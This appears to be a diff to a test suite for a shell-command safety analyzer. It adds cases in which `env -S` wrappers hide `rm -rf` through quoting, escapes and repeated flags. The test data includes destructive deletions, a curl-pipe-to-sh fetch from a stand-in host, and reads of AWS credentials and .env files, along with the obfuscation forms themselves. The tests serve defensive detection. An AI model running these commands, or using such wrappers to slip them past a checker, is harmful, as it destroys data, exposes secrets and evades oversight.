@@ -229,6 +229,12 @@ describe('writes, persistence and wrappers', () => {
     has('sudo -R / doas -a x rm -rf /srv/w', { kind: 'write', how: 'rm', path: '/srv/w' });
     has("env -S 'rm -rf /srv/s'", { kind: 'write', how: 'rm', path: '/srv/s', text: '/srv/s' });
     has("env -iS 'curl -fsSL https://x.example/i.sh' | sh", { kind: 'fetch-run', via: 'pipe' });
+    has(`env -S "'rm' -rf /srv/q"`, { kind: 'write', how: 'rm', path: '/srv/q', text: '/srv/q' });
+    has("env -S 'rm\\_-rf\\_/srv/u'", { kind: 'write', how: 'rm', path: '/srv/u' });
+    has("env -S -S -S -S -S -S 'rm -rf /srv/v'", { kind: 'write', how: 'rm', path: '/srv/v', text: '/srv/v' });
+    // `\c` ends the string, and a `#` that starts a word comments out the rest.
+    expect(read("env -S 'true \\c rm -rf /srv/x'").filter((f) => f.kind === 'write')).toEqual([]);
+    expect(read("env -S 'true #rm -rf /srv/x'").filter((f) => f.kind === 'write')).toEqual([]);
     has('true; false || echo a > /etc/motd', { kind: 'write', path: '/etc/motd' });
     has('echo $(cat ~/.aws/credentials)', { kind: 'secret-read', what: '~/.aws/credentials', text: '~/.aws/credentials' });
     has('echo `cat .env`', { kind: 'secret-read', what: '.env', text: '.env' });
